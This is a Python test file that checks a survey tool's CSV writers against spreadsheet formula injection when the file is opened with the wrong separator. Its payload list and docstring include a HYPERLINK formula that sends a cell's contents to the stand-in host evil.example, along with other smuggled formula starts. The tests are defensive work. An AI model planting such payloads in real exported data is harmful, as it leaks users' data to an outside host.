"""Attack round 16 (attack7), the writers: what a free-text answer can do to the person who
opens the exported file in a spreadsheet.

Finding A7-1 (CSV read with another separator): a CSV cell is quoted by the csv module only
when it holds the file's own separator, a quote or a line break. Excel set to French opens a
`.csv` at its list separator `;`, so the UTF-8 comma file is split at every `;` of a
free-text answer, and the text after it starts a cell of its own; Excel in English (or
LibreOffice left at "comma") splits the French `;` file at commas; LibreOffice's import dialog
often has Tab ticked as well. When the line is split elsewhere than the writer meant, a
quoted line break no longer holds the cell together either: the next physical line starts a
cell. A free text `ok;=HYPERLINK("https://evil.example/?"&A2;"clic")` then became a live
formula (measured with LibreOffice 7.4: `soffice --infilter=CSV:59,34,76,1` on the comma
file, `CSV:44,...` on the `;` file, `CSV:9,...` on both). The leading quote of `neutralised`
now also goes after each separator and line break that a formula start follows, in CSV only.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from pathlib import Path

import openpyxl  # type: ignore[import-untyped]
import pytest

from selfcheck.evaluation.writers import WRITERS, Column
from selfcheck.evaluation.writers.base import FORMULA_STARTS, MISSING_TEXTS
from selfcheck.questionnaire.answer_types import ExportKind

COLUMNS = [
    Column("pseudonym", "Pseudonyme", ExportKind.STR, width=16),
    Column("answer", "Réponse", ExportKind.INT, ((1, "Oui"), (2, "Non"))),
    Column("text", "Réponse libre", ExportKind.STR, width=500),
]
# A free-text answer (the COMMENT item: any character but controls other than tab and line
# breaks) that starts a formula after a separator the reader may split at.
PAYLOADS = [
    'ok;=HYPERLINK("https://evil.example/?"&A2;"clic")',
    'ok,=HYPERLINK("https://evil.example/?"&A2,"clic")',
    "ok\t=1+1",
    "ok;+1+1",
    "ok;-2+3",
    "ok;@SUM(A1:A2)",
    "ok;\t=1+1",
    "ligne\n=1+1",
    "ligne\r\n=1+1",
    "ligne\r=1+1",
    "a;b,c\t=1+1",
    "-7;=1+1",
]
READERS = [",", ";", "\t"]


def _write(fmt: str, path: Path, texts: list[str]) -> str:
    writer = WRITERS[fmt](path, COLUMNS, "test")
    for index, text in enumerate(texts):
        writer.write([f"p{index}", 1, text])
    writer.close()
    return path.read_bytes().decode("utf-8-sig")


def _formula_like(cell: str) -> bool:
    return cell.startswith(FORMULA_STARTS) and cell not in MISSING_TEXTS


@pytest.mark.parametrize("fmt", ["csv", "csv-excel"])
@pytest.mark.parametrize("reader", READERS)
def test_a7_1_no_formula_when_the_csv_is_read_with_another_separator(
    fmt: str, reader: str, tmp_path: Path
) -> None:
    text = _write(fmt, tmp_path / "data.csv", PAYLOADS)
    # The csv module, like Excel and LibreOffice, honours a quote at the start of a cell
    # only: read at another separator, a cell quoted by the writer may start mid-cell, and
    # its line break then ends the row.
    cells = [
        cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=reader) for cell in row
    ]
    assert [cell for cell in cells if _formula_like(cell)] == []


@pytest.mark.parametrize("fmt", ["csv", "csv-excel"])
def test_a7_1_read_at_its_own_separator_the_text_is_the_answer_with_quotes_only(
    fmt: str, tmp_path: Path
) -> None:
    # The answers come back whole, a quote added before each formula start and nothing else.
    text = _write(fmt, tmp_path / "data.csv", [*PAYLOADS, "a; b, c - d", "5-3=2", "-8"])
    delimiter = ";" if fmt == "csv-excel" else ","
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))[1:]
    assert rows[0][2] == 'ok;\'=HYPERLINK("https://evil.example/?"&A2;"clic")'
    assert rows[7][2] == "ligne\n'=1+1"
    assert rows[8][2] == "ligne\r\n'=1+1"
    assert rows[-3][2] == "a; b, c - d"  # a space after the separator: not a formula
    assert rows[-2][2] == "5-3=2"
    assert rows[-1][2] == "-8"  # a missing code as text, unchanged
    for row, payload in zip(rows, PAYLOADS, strict=False):
        assert row[2].replace("'", "") == payload.replace("'", "")


@pytest.mark.slow  # LibreOffice: a few seconds per file
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) not installed")
@pytest.mark.parametrize("fmt", ["csv", "csv-excel"])
def test_a7_1_libreoffice_finds_no_formula_at_any_separator(fmt: str, tmp_path: Path) -> None:
    _write(fmt, tmp_path / "data.csv", PAYLOADS)
    for separators in ("44", "59", "9", "44/59/9"):
        out = tmp_path / separators.replace("/", "_")
        subprocess.run(
            [
                "soffice",
                f"-env:UserInstallation=file://{tmp_path}/profile",
                "--headless",
                f"--infilter=CSV:{separators},34,76,1",
                "--convert-to",
                "xlsx",
                "--outdir",
                str(out),
                str(tmp_path / "data.csv"),
            ],
            check=True,
            capture_output=True,
            timeout=180,
        )
        sheet = openpyxl.load_workbook(out / "data.xlsx").active
        formulas = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]
        assert formulas == [], (separators, formulas)
